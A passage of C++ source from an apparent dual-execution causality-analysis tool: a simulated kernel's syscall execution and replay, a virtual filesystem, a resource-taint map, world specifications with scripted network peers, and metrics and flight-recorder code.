        if (peer.echo) {
            resp = fd.echoBuf;
            fd.echoBuf.clear();
        } else if (fd.respIdx < peer.responses.size()) {
            resp = peer.responses[fd.respIdx++];
        }
        if (static_cast<std::int64_t>(resp.size()) > cap)
            resp.resize(static_cast<std::size_t>(cap));
        out.data = resp;
        out.ret = static_cast<std::int64_t>(resp.size());
        return out;
      }
      default:
        out.ret = -1;
        return out;
    }
}

Outcome
Kernel::doWrite(std::int64_t fdno, Fd &fd, const std::string &payload,
                std::int64_t stamp)
{
    Outcome out;
    out.stamp = stamp;
    switch (fd.kind) {
      case Fd::Kind::File: {
        std::string content = vfs_.content(fd.path);
        std::size_t off = static_cast<std::size_t>(fd.offset);
        if (content.size() < off + payload.size())
            content.resize(off + payload.size(), '\0');
        content.replace(off, payload.size(), payload);
        vfs_.setContent(fd.path, std::move(content), stamp);
        fd.offset += static_cast<std::int64_t>(payload.size());
        break;
      }
      case Fd::Kind::SocketConn:
        fd.echoBuf = payload;
        break;
      case Fd::Kind::SocketServerConn:
        break;
      default:
        out.ret = -1;
        return out;
    }
    journalOutput(static_cast<std::int64_t>(
                      fd.kind == Fd::Kind::File ? Sys::Write : Sys::Send),
                  channelOfFd(fdno), payload);
    out.ret = static_cast<std::int64_t>(payload.size());
    return out;
}

Outcome
Kernel::doAccept(std::optional<std::int64_t> forced_fd)
{
    Outcome out;
    out.stamp = now();
    if (nextIncoming_ >= spec_.incoming.size()) {
        out.ret = -1;
        return out;
    }
    Fd fd;
    fd.kind = Fd::Kind::SocketServerConn;
    fd.incomingIdx = nextIncoming_;
    fd.request = spec_.incoming[nextIncoming_++].request;
    std::int64_t fdno = forced_fd ? *forced_fd : nextFd_++;
    if (forced_fd)
        nextFd_ = std::max(nextFd_, fdno + 1);
    fds_[fdno] = std::move(fd);
    out.ret = fdno;
    return out;
}

Outcome
Kernel::execute(std::int64_t no, const std::vector<std::int64_t> &args,
                MemAccess &mem)
{
    ++stats_.executes;
    accountOp(no);
    Outcome out;
    out.stamp = now();
    Sys sys = static_cast<Sys>(no);
    switch (sys) {
      case Sys::Open:
        return doOpen(args, mem, std::nullopt);
      case Sys::Read:
      case Sys::Recv: {
        auto it = fds_.find(arg(args, 0));
        if (it == fds_.end()) {
            out.ret = -1;
            return out;
        }
        out = doRead(it->second, arg(args, 2));
        if (!out.data.empty())
            mem.writeBytes(static_cast<std::uint64_t>(arg(args, 1)),
                           out.data);
        return out;
      }
      case Sys::Write:
      case Sys::Send: {
        auto it = fds_.find(arg(args, 0));
        if (it == fds_.end()) {
            out.ret = -1;
            return out;
        }
        std::string payload =
            mem.readBytes(static_cast<std::uint64_t>(arg(args, 1)),
                          static_cast<std::uint64_t>(
                              std::max<std::int64_t>(0, arg(args, 2))));
        return doWrite(arg(args, 0), it->second, payload, out.stamp);
      }
      case Sys::Close:
        out.ret = fds_.erase(arg(args, 0)) ? 0 : -1;
        return out;
      case Sys::Lseek: {
        auto it = fds_.find(arg(args, 0));
        if (it == fds_.end() || it->second.kind != Fd::Kind::File) {
            out.ret = -1;
            return out;
        }
        std::int64_t base = 0;
        std::int64_t whence = arg(args, 2);
        if (whence == 1) {
            base = it->second.offset;
        } else if (whence == 2) {
            base = static_cast<std::int64_t>(
                vfs_.content(it->second.path).size());
        }
        it->second.offset = std::max<std::int64_t>(0, base + arg(args, 1));
        out.ret = it->second.offset;
        return out;
      }
      case Sys::Socket: {
        Fd fd;
        fd.kind = Fd::Kind::SocketFresh;
        std::int64_t fdno = nextFd_++;
        fds_[fdno] = std::move(fd);
        out.ret = fdno;
        return out;
      }
      case Sys::Connect: {
        auto it = fds_.find(arg(args, 0));
        std::string host = mem.readCString(
            static_cast<std::uint64_t>(arg(args, 1)));
        if (it == fds_.end() ||
            it->second.kind != Fd::Kind::SocketFresh ||
            spec_.peers.find(host) == spec_.peers.end()) {
            out.ret = -1;
            return out;
        }
        it->second.kind = Fd::Kind::SocketConn;
        it->second.host = host;
        out.ret = 0;
        return out;
      }
      case Sys::Listen: {
        auto it = fds_.find(arg(args, 0));
        if (it == fds_.end() ||
            it->second.kind != Fd::Kind::SocketFresh) {
            out.ret = -1;
            return out;
        }
        it->second.kind = Fd::Kind::SocketListen;
        out.ret = 0;
        return out;
      }
      case Sys::Accept: {
        auto it = fds_.find(arg(args, 0));
        if (it == fds_.end() ||
            it->second.kind != Fd::Kind::SocketListen) {
            out.ret = -1;
            return out;
        }
        return doAccept(std::nullopt);
      }
      case Sys::Mkdir: {
        std::string path = mem.readCString(
            static_cast<std::uint64_t>(arg(args, 0)));
        out.ret = vfs_.mkdir(path, out.stamp) ? 0 : -1;
        return out;
      }
      case Sys::Rmdir: {
        std::string path = mem.readCString(
            static_cast<std::uint64_t>(arg(args, 0)));
        out.ret = vfs_.rmdir(path) ? 0 : -1;
        return out;
      }
      case Sys::Unlink: {
        std::string path = mem.readCString(
            static_cast<std::uint64_t>(arg(args, 0)));
        out.ret = vfs_.unlink(path) ? 0 : -1;
        return out;
      }
      case Sys::Rename: {
        std::string from = mem.readCString(
            static_cast<std::uint64_t>(arg(args, 0)));
        std::string to = mem.readCString(
            static_cast<std::uint64_t>(arg(args, 1)));
        out.ret = vfs_.rename(from, to, out.stamp) ? 0 : -1;
        return out;
      }
      case Sys::Stat: {
        std::string path = mem.readCString(
            static_cast<std::uint64_t>(arg(args, 0)));
        auto st = vfs_.stat(path);
        if (!st) {
            out.ret = -1;
            return out;
        }
        std::string buf(16, '\0');
        for (int i = 0; i < 8; ++i) {
            buf[i] = static_cast<char>((st->size >> (8 * i)) & 0xff);
            buf[8 + i] = static_cast<char>((st->mtime >> (8 * i)) & 0xff);
        }
        out.data = buf;
        mem.writeBytes(static_cast<std::uint64_t>(arg(args, 1)), buf);
        out.ret = 0;
        return out;
      }
      case Sys::Time:
        ++clockQueries_;
        out.ret = now();
        return out;
      case Sys::Rdtsc:
        out.ret = static_cast<std::int64_t>(
            instrTicks_ * 3 + (rdtscPrng_.next() & 0xff));
        return out;
      case Sys::Random:
        out.ret = static_cast<std::int64_t>(randomPrng_.next() & 0x7fffffff);
        return out;
      case Sys::GetPid:
        out.ret = spec_.pid;
        return out;
      case Sys::GetEnv: {
        std::string name = mem.readCString(
            static_cast<std::uint64_t>(arg(args, 0)));
        auto it = spec_.env.find(name);
        if (it == spec_.env.end()) {
            out.ret = -1;
            return out;
        }
        std::string value = it->second;
        std::int64_t cap = arg(args, 2);
        if (static_cast<std::int64_t>(value.size()) > cap)
            value.resize(static_cast<std::size_t>(std::max<std::int64_t>(
                0, cap)));
        out.data = value;
        mem.writeBytes(static_cast<std::uint64_t>(arg(args, 1)), value);
        out.ret = static_cast<std::int64_t>(value.size());
        return out;
      }
      case Sys::Print: {
        std::string payload =
            mem.readBytes(static_cast<std::uint64_t>(arg(args, 0)),
                          static_cast<std::uint64_t>(
                              std::max<std::int64_t>(0, arg(args, 1))));
        journalOutput(no, "console", payload);
        out.ret = static_cast<std::int64_t>(payload.size());
        return out;
      }
      case Sys::Exit:
        exited_ = true;
        exitCode_ = arg(args, 0);
        out.exited = true;
        return out;
      default:
        fatal("kernel cannot execute syscall " + sysName(no));
    }
}

bool
Kernel::replay(std::int64_t no, const std::vector<std::int64_t> &args,
               const Outcome &out, MemAccess &mem)
{
    ++stats_.replays;
    accountOp(no);
    Sys sys = static_cast<Sys>(no);
    switch (sys) {
      case Sys::Open: {
        if (out.ret < 0)
            return true;
        Outcome local = doOpen(args, mem, out.ret);
        return local.ret == out.ret;
      }
      case Sys::Read:
      case Sys::Recv: {
        auto it = fds_.find(arg(args, 0));
        if (it == fds_.end())
            return false;
        Fd &fd = it->second;
        // Advance our clone's cursor by what the master consumed.
        switch (fd.kind) {
          case Fd::Kind::File:
          case Fd::Kind::SocketServerConn:
            fd.offset += static_cast<std::int64_t>(out.data.size());
            break;
          case Fd::Kind::SocketConn: {
            auto pit = spec_.peers.find(fd.host);
            if (pit != spec_.peers.end() && !pit->second.echo)
                ++fd.respIdx;
            fd.echoBuf.clear();
            break;
          }
          default:
            return false;
        }
        if (!out.data.empty())
            mem.writeBytes(static_cast<std::uint64_t>(arg(args, 1)),
                           out.data);
        return true;
      }
      case Sys::Write:
      case Sys::Send: {
        // The slave skips the external effect but applies its own
        // payload to its world clone so later reads stay coherent.
        auto it = fds_.find(arg(args, 0));
        if (it == fds_.end())
            return false;
        std::string payload =
            mem.readBytes(static_cast<std::uint64_t>(arg(args, 1)),
                          static_cast<std::uint64_t>(
                              std::max<std::int64_t>(0, arg(args, 2))));
        doWrite(arg(args, 0), it->second, payload, out.stamp);
        return true;
      }
      case Sys::Close:
        return fds_.erase(arg(args, 0)) > 0;
      case Sys::Lseek: {
        Outcome local = execute(no, args, mem);
        return local.ret == out.ret;
      }
      case Sys::Socket: {
        Fd fd;
        fd.kind = Fd::Kind::SocketFresh;
        fds_[out.ret] = std::move(fd);
        nextFd_ = std::max(nextFd_, out.ret + 1);
        return true;
      }
      case Sys::Connect:
      case Sys::Listen: {
        Outcome local = execute(no, args, mem);
        return local.ret == out.ret;
      }
      case Sys::Accept: {
        if (out.ret < 0) {
            // Master saw an empty queue; mirror by consuming nothing.
            return nextIncoming_ >= spec_.incoming.size();
        }
        Outcome local = doAccept(out.ret);
        return local.ret == out.ret;
      }
      case Sys::Mkdir:
      case Sys::Rmdir:
      case Sys::Unlink:
      case Sys::Rename: {
        Outcome local = execute(no, args, mem);
        // Mtime stamping should follow the master's clock.
        return local.ret == out.ret;
      }
      case Sys::Stat:
      case Sys::GetEnv:
        if (!out.data.empty())
            mem.writeBytes(static_cast<std::uint64_t>(arg(args, 1)),
                           out.data);
        return true;
      case Sys::Time:
        ++clockQueries_;
        return true;
      case Sys::Rdtsc:
        rdtscPrng_.next();
        return true;
      case Sys::Random:
        randomPrng_.next();
        return true;
      case Sys::GetPid:
        return true;
      case Sys::Print:
        journalOutput(no, "console",
                      mem.readBytes(
                          static_cast<std::uint64_t>(arg(args, 0)),
                          static_cast<std::uint64_t>(
                              std::max<std::int64_t>(0, arg(args, 1)))));
        return true;
      case Sys::Exit:
        exited_ = true;
        exitCode_ = arg(args, 0);
        return true;
      default:
        return false;
    }
}

void
Kernel::patchWorld(const WorldSpec &spec)
{
    WorldSpec old = std::move(spec_);
    spec_ = spec;
    // installFile is also what the constructor uses, so a re-installed
    // file is byte- and mtime-identical to one installed at birth.
    for (const auto &[path, data] : spec_.files) {
        auto it = old.files.find(path);
        if (it == old.files.end() || it->second != data)
            vfs_.installFile(path, data);
    }
    for (auto &[fdno, fd] : fds_) {
        (void)fdno;
        if (fd.kind == Fd::Kind::SocketServerConn &&
            fd.incomingIdx < spec_.incoming.size())
            fd.request = spec_.incoming[fd.incomingIdx].request;
    }
}

std::string
Kernel::resourceKey(std::int64_t no, const std::vector<std::int64_t> &args,
                    const MemAccess &mem) const
{
    Sys sys = static_cast<Sys>(no);
    switch (sys) {
      case Sys::Open:
      case Sys::Mkdir:
      case Sys::Rmdir:
      case Sys::Unlink:
      case Sys::Stat:
      case Sys::Rename:
        return "path:" + Vfs::normalize(mem.readCString(
                   static_cast<std::uint64_t>(arg(args, 0))));
      case Sys::Connect:
        return "net:" + mem.readCString(
                   static_cast<std::uint64_t>(arg(args, 1)));
      case Sys::Read:
      case Sys::Write:
      case Sys::Send:
      case Sys::Recv:
      case Sys::Close:
      case Sys::Lseek: {
        auto it = fds_.find(arg(args, 0));
        if (it == fds_.end())
            return "";
        const Fd &fd = it->second;
        if (fd.kind == Fd::Kind::File)
            return "path:" + fd.path;
        if (fd.kind == Fd::Kind::SocketConn)
            return "net:" + fd.host;
        if (fd.kind == Fd::Kind::SocketServerConn)
            return "net:client";
        return "";
      }
      case Sys::Accept:
      case Sys::Listen:
        return "net:server";
      case Sys::GetEnv:
        return "env:" + mem.readCString(
                   static_cast<std::uint64_t>(arg(args, 0)));
      case Sys::MutexLock:
      case Sys::MutexUnlock:
        return "mutex:" + std::to_string(arg(args, 0));
      default:
        return "";
    }
}

std::string
Kernel::sinkPayload(std::int64_t no, const std::vector<std::int64_t> &args,
                    const MemAccess &mem) const
{
    Sys sys = static_cast<Sys>(no);
    switch (sys) {
      case Sys::Write:
      case Sys::Send: {
        std::string payload =
            mem.readBytes(static_cast<std::uint64_t>(arg(args, 1)),
                          static_cast<std::uint64_t>(
                              std::max<std::int64_t>(0, arg(args, 2))));
        return channelOfFd(arg(args, 0)) + "|" + payload;
      }
      case Sys::Print:
        return std::string("console|") +
               mem.readBytes(static_cast<std::uint64_t>(arg(args, 0)),
                             static_cast<std::uint64_t>(
                                 std::max<std::int64_t>(0, arg(args, 1))));
      default:
        return "";
    }
}

} // namespace ldx::os
