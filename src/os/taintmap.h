/**
 * @file
 * Shared resource-taint map (§7 "Light-weight Resource Tainting").
 *
 * When a resource operation is misaligned between the master and the
 * slave, the resource is tainted; future syscalls touching it are
 * never coupled (both executions run them on their own world copy).
 * The map is shared by both execution controllers, so it is
 * internally synchronized for the threaded driver.
 */
#pragma once

#include <atomic>
#include <cstdint>
#include <mutex>
#include <set>
#include <string>

namespace ldx::os {

/** Thread-safe set of tainted resource keys. */
class ResourceTaintMap
{
  public:
    /** Mark @p key tainted. Idempotent. */
    void
    taint(const std::string &key)
    {
        std::lock_guard<std::mutex> lock(mutex_);
        keys_.insert(key);
        version_.fetch_add(1, std::memory_order_release);
    }

    /** True if @p key has been tainted. */
    bool
    isTainted(const std::string &key) const
    {
        std::lock_guard<std::mutex> lock(mutex_);
        return keys_.count(key) > 0;
    }

    /** Number of tainted resources (reported by the engine). */
    std::size_t
    size() const
    {
        std::lock_guard<std::mutex> lock(mutex_);
        return keys_.size();
    }

    /** Snapshot of tainted keys (diagnostics). */
    std::set<std::string>
    snapshot() const
    {
        std::lock_guard<std::mutex> lock(mutex_);
        return keys_;
    }

    /**
     * Overwrite the map with @p keys at exactly @p version (snapshot
     * forking: a forked execution must resume from the captured taint
     * state, version included, so cached membership answers on either
     * side of the fork stay coherent).
     */
    void
    restore(const std::set<std::string> &keys, std::uint64_t version)
    {
        std::lock_guard<std::mutex> lock(mutex_);
        keys_ = keys;
        version_.store(version, std::memory_order_release);
    }

    /**
     * Monotonic change counter. A poller that cached a membership
     * answer may keep it while the version is unchanged (taints are
     * only ever added, never removed).
     */
    std::uint64_t
    version() const
    {
        return version_.load(std::memory_order_acquire);
    }

  private:
    mutable std::mutex mutex_;
    std::set<std::string> keys_;
    std::atomic<std::uint64_t> version_{0};
};

} // namespace ldx::os
