#include "os/vfs.h"

#include "support/diag.h"
#include "support/strings.h"

namespace ldx::os {

Vfs::Vfs()
{
    Node root;
    root.is_dir = true;
    nodes_["/"] = root;
}

std::string
Vfs::normalize(const std::string &path)
{
    std::string out = "/";
    for (const std::string &part : splitString(path, '/')) {
        if (part.empty() || part == ".")
            continue;
        if (out.back() != '/')
            out += '/';
        out += part;
    }
    return out;
}

std::string
Vfs::parentOf(const std::string &path)
{
    auto pos = path.rfind('/');
    if (pos == 0 || pos == std::string::npos)
        return "/";
    return path.substr(0, pos);
}

bool
Vfs::exists(const std::string &path) const
{
    return nodes_.count(normalize(path)) > 0;
}

bool
Vfs::isDir(const std::string &path) const
{
    auto it = nodes_.find(normalize(path));
    return it != nodes_.end() && it->second.is_dir;
}

bool
Vfs::isFile(const std::string &path) const
{
    auto it = nodes_.find(normalize(path));
    return it != nodes_.end() && !it->second.is_dir;
}

bool
Vfs::createFile(const std::string &path, std::int64_t mtime)
{
    std::string p = normalize(path);
    if (!isDir(parentOf(p)))
        return false;
    if (isDir(p))
        return false;
    Node n;
    n.is_dir = false;
    n.mtime = mtime;
    nodes_[p] = std::move(n);
    return true;
}

bool
Vfs::mkdir(const std::string &path, std::int64_t mtime)
{
    std::string p = normalize(path);
    if (exists(p) || !isDir(parentOf(p)))
        return false;
    Node n;
    n.is_dir = true;
    n.mtime = mtime;
    nodes_[p] = std::move(n);
    return true;
}

bool
Vfs::hasChildren(const std::string &path) const
{
    std::string prefix = path == "/" ? "/" : path + "/";
    auto it = nodes_.upper_bound(path);
    return it != nodes_.end() && startsWith(it->first, prefix);
}

bool
Vfs::rmdir(const std::string &path)
{
    std::string p = normalize(path);
    if (p == "/" || !isDir(p) || hasChildren(p))
        return false;
    nodes_.erase(p);
    return true;
}

bool
Vfs::unlink(const std::string &path)
{
    std::string p = normalize(path);
    if (!isFile(p))
        return false;
    nodes_.erase(p);
    return true;
}

bool
Vfs::rename(const std::string &from, const std::string &to,
            std::int64_t mtime)
{
    std::string f = normalize(from);
    std::string t = normalize(to);
    if (!exists(f) || exists(t) || !isDir(parentOf(t)))
        return false;
    if (f == "/" || startsWith(t, f + "/"))
        return false;
    // Move the node plus any subtree.
    std::vector<std::pair<std::string, Node>> moved;
    std::string prefix = f + "/";
    for (auto it = nodes_.lower_bound(f);
         it != nodes_.end() &&
         (it->first == f || startsWith(it->first, prefix));) {
        std::string new_path =
            t + it->first.substr(f.size());
        Node n = it->second;
        if (it->first == f)
            n.mtime = mtime;
        moved.emplace_back(std::move(new_path), std::move(n));
        it = nodes_.erase(it);
    }
    for (auto &[p, n] : moved)
        nodes_[p] = std::move(n);
    return true;
}

const std::string &
Vfs::content(const std::string &path) const
{
    auto it = nodes_.find(normalize(path));
    checkInvariant(it != nodes_.end() && !it->second.is_dir,
                   "content() on missing file " + path);
    return it->second.data;
}

void
Vfs::setContent(const std::string &path, std::string data,
                std::int64_t mtime)
{
    auto it = nodes_.find(normalize(path));
    checkInvariant(it != nodes_.end() && !it->second.is_dir,
                   "setContent() on missing file " + path);
    it->second.data = std::move(data);
    it->second.mtime = mtime;
}

void
Vfs::appendContent(const std::string &path, const std::string &data,
                   std::int64_t mtime)
{
    auto it = nodes_.find(normalize(path));
    checkInvariant(it != nodes_.end() && !it->second.is_dir,
                   "appendContent() on missing file " + path);
    it->second.data += data;
    it->second.mtime = mtime;
}

std::optional<FileStat>
Vfs::stat(const std::string &path) const
{
    auto it = nodes_.find(normalize(path));
    if (it == nodes_.end())
        return std::nullopt;
    FileStat st;
    st.size = static_cast<std::int64_t>(it->second.data.size());
    st.mtime = it->second.mtime;
    return st;
}

void
Vfs::installFile(const std::string &path, std::string data)
{
    std::string p = normalize(path);
    // Create missing parents.
    std::vector<std::string> parents;
    for (std::string cur = parentOf(p); cur != "/"; cur = parentOf(cur))
        parents.push_back(cur);
    for (auto it = parents.rbegin(); it != parents.rend(); ++it) {
        if (!exists(*it))
            mkdir(*it, 0);
    }
    Node n;
    n.is_dir = false;
    n.data = std::move(data);
    nodes_[p] = std::move(n);
}

std::vector<std::string>
Vfs::listAll() const
{
    std::vector<std::string> out;
    for (const auto &[p, n] : nodes_)
        out.push_back(p);
    return out;
}

} // namespace ldx::os
