/**
 * @file
 * WorldSpec: the immutable description of an execution's environment —
 * initial filesystem image, scripted network peers, environment
 * variables, and the seeds of every nondeterminism source the
 * dual-execution coupling must suppress (virtual clock, rdtsc jitter,
 * PRNG, pid, heap base).
 *
 * The master and the slave are constructed from the *same* WorldSpec
 * except for the nondeterminism seeds, which intentionally differ so
 * that experiments demonstrate the coupling is what removes
 * divergence (not accidental determinism of the simulator).
 */
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

namespace ldx::os {

/** Scripted behaviour of one remote network peer (by host name). */
struct PeerScript
{
    /** Responses returned by successive recv() calls; then empty. */
    std::vector<std::string> responses;
    /** When true, each recv() echoes back the latest sent payload. */
    bool echo = false;
};

/** One scripted inbound connection for server programs. */
struct IncomingConn
{
    std::string request; ///< bytes the server's recv() will see
};

/** Full environment description. */
struct WorldSpec
{
    /** Initial filesystem image: absolute path -> contents. */
    std::map<std::string, std::string> files;

    /** Remote peers reachable via connect(host). */
    std::map<std::string, PeerScript> peers;

    /** Queue of inbound connections served by accept(). */
    std::vector<IncomingConn> incoming;

    /** Environment variables. */
    std::map<std::string, std::string> env;

    // -- Nondeterminism seeds (differ between master and slave). --
    std::int64_t pid = 1000;
    std::int64_t clockBase = 1700000000;
    std::int64_t clockStepPerQuery = 1;
    std::uint64_t rdtscSeed = 0x1234;
    std::uint64_t randomSeed = 0x5678;
    std::uint64_t heapBaseJitter = 0; ///< added to the heap segment base

    /**
     * Derive a variant with different nondeterminism seeds, as the OS
     * would present to a second process started moments later.
     */
    WorldSpec
    withNondetVariant(std::uint64_t salt) const
    {
        WorldSpec w = *this;
        w.pid += 1 + static_cast<std::int64_t>(salt % 7);
        w.clockBase += 3 + static_cast<std::int64_t>(salt % 11);
        w.rdtscSeed ^= 0x9e3779b9u * (salt + 1);
        w.randomSeed ^= 0x85ebca6bu * (salt + 1);
        w.heapBaseJitter = ((salt + 1) * 64) & 0xfff0;
        return w;
    }
};

} // namespace ldx::os
