/**
 * @file
 * obs::Scope — the bundle one dual-execution run threads through its
 * components: the metrics registry everything counts into and the
 * (optional) trace sink everything emits into. Components hold a
 * `Scope *` and treat a null sink as "tracing off"; the registry is
 * always present so counters never need a null check.
 */
#pragma once

#include "obs/recorder.h"
#include "obs/registry.h"
#include "obs/trace.h"

namespace ldx::obs {

/** Per-run observability context. */
class Scope
{
  public:
    explicit Scope(Registry &registry, TraceSink *sink = nullptr,
                   FlightRecorder *recorder = nullptr)
        : registry_(registry), sink_(sink), recorder_(recorder)
    {}

    Registry &registry() const { return registry_; }
    TraceSink *sink() const { return sink_; }
    bool tracing() const { return sink_ != nullptr; }

    /** Flight recorder, or null when event recording is off. */
    FlightRecorder *recorder() const { return recorder_; }

    /** Record @p evt on @p side's ring when a recorder is attached. */
    void
    record(int side, const RecEvent &evt) const
    {
        if (recorder_)
            recorder_->record(side, evt);
    }

    /** Emit @p rec when a sink is attached. */
    void
    emit(const TraceRecord &rec) const
    {
        if (sink_)
            sink_->emit(rec);
    }

  private:
    Registry &registry_;
    TraceSink *sink_;
    FlightRecorder *recorder_;
};

} // namespace ldx::obs
