/**
 * @file
 * The obs metrics registry: named counters, gauges, and fixed-bucket
 * histograms.
 *
 * Design constraints, in order:
 *  - the hot path (controller syscall handling, channel spin loops,
 *    the threaded driver) must pay at most one relaxed atomic RMW per
 *    recorded event — identical to the ad-hoc `std::atomic` tallies
 *    this registry replaces;
 *  - handles returned by the registry are stable for its lifetime, so
 *    callers cache `Counter *` once and never look names up again;
 *  - reads (snapshot/serialization) may be slow and take locks.
 *
 * Registration is mutex-guarded; instruments themselves are lock-free.
 */
#pragma once

#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <ostream>
#include <string>
#include <vector>

namespace ldx::obs {

/** Monotone event count. Lock-free; relaxed ordering. */
class Counter
{
  public:
    void
    inc(std::uint64_t n = 1)
    {
        value_.fetch_add(n, std::memory_order_relaxed);
    }

    std::uint64_t
    value() const
    {
        return value_.load(std::memory_order_relaxed);
    }

  private:
    std::atomic<std::uint64_t> value_{0};
};

/** Last-written point-in-time value (double so ratios/seconds fit). */
class Gauge
{
  public:
    void
    set(double v)
    {
        value_.store(v, std::memory_order_relaxed);
    }

    double
    value() const
    {
        return value_.load(std::memory_order_relaxed);
    }

  private:
    std::atomic<double> value_{0.0};
};

/**
 * Fixed-bucket histogram. Buckets are defined by ascending upper
 * bounds; an implicit overflow bucket catches everything above the
 * last bound. observe() is one relaxed RMW per bucket/sum/count.
 */
class Histogram
{
  public:
    explicit Histogram(std::vector<double> bounds);

    void observe(double x);

    const std::vector<double> &bounds() const { return bounds_; }
    std::size_t numBuckets() const { return bounds_.size() + 1; }

    std::uint64_t
    bucketCount(std::size_t i) const
    {
        return buckets_[i].load(std::memory_order_relaxed);
    }

    std::uint64_t
    count() const
    {
        return count_.load(std::memory_order_relaxed);
    }

    double
    sum() const
    {
        return sum_.load(std::memory_order_relaxed);
    }

  private:
    std::vector<double> bounds_;
    std::unique_ptr<std::atomic<std::uint64_t>[]> buckets_;
    std::atomic<std::uint64_t> count_{0};
    std::atomic<double> sum_{0.0};
};

/** Read-only copy of one histogram. */
struct HistogramSnapshot
{
    std::string name;
    std::vector<double> bounds;
    std::vector<std::uint64_t> counts; ///< bounds.size() + 1 entries
    std::uint64_t count = 0;
    double sum = 0.0;

    /**
     * Estimated p-th percentile (p in [0, 100]) assuming a uniform
     * distribution within each bucket. The overflow bucket reports
     * the last finite bound. Ranks against the bucket total (not the
     * `count` header, which can disagree on a torn snapshot); a
     * snapshot with zero observed samples deterministically reports
     * 0.0.
     */
    double percentile(double p) const;
};

/** Point-in-time copy of every instrument in a registry. */
struct MetricsSnapshot
{
    std::vector<std::pair<std::string, std::uint64_t>> counters;
    std::vector<std::pair<std::string, double>> gauges;
    std::vector<HistogramSnapshot> histograms;

    /** Counter value by name; @p dflt when absent. */
    std::uint64_t counterOr(const std::string &name,
                            std::uint64_t dflt = 0) const;

    /** Gauge value by name; @p dflt when absent. */
    double gaugeOr(const std::string &name, double dflt = 0.0) const;

    /** `{"counters":{...},"gauges":{...},"histograms":[...]}`. */
    std::string toJson() const;

    /** Aligned plain-text rendering (CLI `--metrics`). */
    void writeText(std::ostream &os) const;
};

/**
 * Named-instrument registry. Lookup-or-create is mutex-guarded and
 * returns stable references; increments on the returned instruments
 * never lock.
 */
class Registry
{
  public:
    Counter &counter(const std::string &name);
    Gauge &gauge(const std::string &name);

    /**
     * Histogram with the given bucket bounds. Bounds are fixed at
     * first registration; later calls with the same name return the
     * existing histogram regardless of @p bounds.
     */
    Histogram &histogram(const std::string &name,
                         std::vector<double> bounds);

    MetricsSnapshot snapshot() const;

  private:
    mutable std::mutex mutex_;
    std::map<std::string, std::unique_ptr<Counter>> counters_;
    std::map<std::string, std::unique_ptr<Gauge>> gauges_;
    std::map<std::string, std::unique_ptr<Histogram>> histograms_;
};

/**
 * Canonical bucket bounds (seconds) for wall-clock latency
 * histograms. Shared so every latency histogram in the repo (campaign
 * query runtimes, bench harnesses) reports percentiles on the same
 * grid and snapshots stay comparable across subsystems.
 */
inline std::vector<double>
latencySecondsBounds()
{
    return {0.001, 0.005, 0.02, 0.1, 0.5, 2.0, 10.0, 60.0};
}

/**
 * Microseconds since the first call in this process (steady clock).
 * Every obs timestamp shares this timeline, so trace events emitted
 * by different components (CLI front end, engine, controllers) stay
 * ordered in one trace file.
 */
std::int64_t nowUs();

} // namespace ldx::obs
