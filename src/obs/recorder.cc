#include "obs/recorder.h"

#include "obs/registry.h"
#include "support/diag.h"

namespace ldx::obs {

const char *
recKindName(RecKind kind)
{
    switch (kind) {
      case RecKind::SyscallExecute: return "execute";
      case RecKind::SyscallCopy: return "copy";
      case RecKind::SyscallDecouple: return "decouple";
      case RecKind::SinkAligned: return "sink-aligned";
      case RecKind::SinkDiff: return "sink-diff";
      case RecKind::SinkVanish: return "sink-vanish";
      case RecKind::BarrierPair: return "barrier-pair";
      case RecKind::BarrierSkip: return "barrier-skip";
      case RecKind::CounterPush: return "cnt-push";
      case RecKind::CounterPop: return "cnt-pop";
      case RecKind::Block: return "block";
      case RecKind::Unblock: return "unblock";
      case RecKind::LockShare: return "lock-share";
      case RecKind::LockDiverge: return "lock-diverge";
      case RecKind::Mutation: return "mutation";
      case RecKind::Output: return "output";
      case RecKind::ThreadStart: return "thread-start";
      case RecKind::ThreadDone: return "thread-done";
      case RecKind::Trap: return "trap";
      case RecKind::WatchdogExpire: return "watchdog-expire";
    }
    panic("unknown RecKind");
}

bool
recKindDivergent(RecKind kind)
{
    switch (kind) {
      case RecKind::SyscallDecouple:
      case RecKind::SinkDiff:
      case RecKind::SinkVanish:
      case RecKind::BarrierSkip:
      case RecKind::LockDiverge:
      case RecKind::Trap:
      case RecKind::WatchdogExpire:
        return true;
      default:
        return false;
    }
}

void
FlightRecorder::record(int side, RecEvent evt)
{
    Ring &ring = rings_[side & 1];
    std::uint64_t seq =
        ring.head.fetch_add(1, std::memory_order_relaxed);
    evt.tsUs = nowUs();
    evt.seq = seq;
    evt.side = static_cast<std::uint8_t>(side & 1);
    ring.slots[seq % cap_] = evt;
}

std::vector<RecEvent>
FlightRecorder::snapshot(int side) const
{
    const Ring &ring = rings_[side & 1];
    std::uint64_t t = ring.head.load(std::memory_order_acquire);
    std::uint64_t kept = t < cap_ ? t : cap_;
    std::uint64_t first = t - kept;
    std::vector<RecEvent> out;
    out.reserve(kept);
    for (std::uint64_t i = 0; i < kept; ++i)
        out.push_back(ring.slots[(first + i) % cap_]);
    return out;
}

} // namespace ldx::obs
