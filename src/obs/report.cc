#include "obs/report.h"

#include <algorithm>
#include <ostream>
#include <sstream>

#include "obs/json.h"

namespace ldx::obs {

namespace {

std::string
resolveSys(const SysNameFn &fn, std::int64_t no)
{
    if (no < 0)
        return "";
    if (fn)
        return fn(no);
    return "sys#" + std::to_string(no);
}

const char *
sideTag(std::uint8_t side)
{
    return side == 0 ? "M" : "S";
}

/** "S decouple read cnt=7 site#3 arg=0x1a2b [t=123us]". */
std::string
eventLine(const RecEvent &e, const SysNameFn &sysName)
{
    std::ostringstream os;
    os << sideTag(e.side) << ' ' << recKindName(e.kind);
    std::string sys = resolveSys(sysName, e.sysNo);
    if (!sys.empty())
        os << ' ' << sys;
    os << " tid=" << e.tid << " cnt=" << e.cnt;
    if (e.site >= 0)
        os << " site#" << e.site;
    if (e.arg)
        os << " arg=0x" << std::hex << e.arg << std::dec;
    os << " [t=" << e.tsUs << "us]";
    return os.str();
}

/** Merge both rings, ordered by (timestamp, seq, side). */
std::vector<const RecEvent *>
mergedTimeline(const std::vector<RecEvent> &m,
               const std::vector<RecEvent> &s)
{
    std::vector<const RecEvent *> all;
    all.reserve(m.size() + s.size());
    for (const RecEvent &e : m)
        all.push_back(&e);
    for (const RecEvent &e : s)
        all.push_back(&e);
    std::stable_sort(all.begin(), all.end(),
                     [](const RecEvent *a, const RecEvent *b) {
                         if (a->tsUs != b->tsUs)
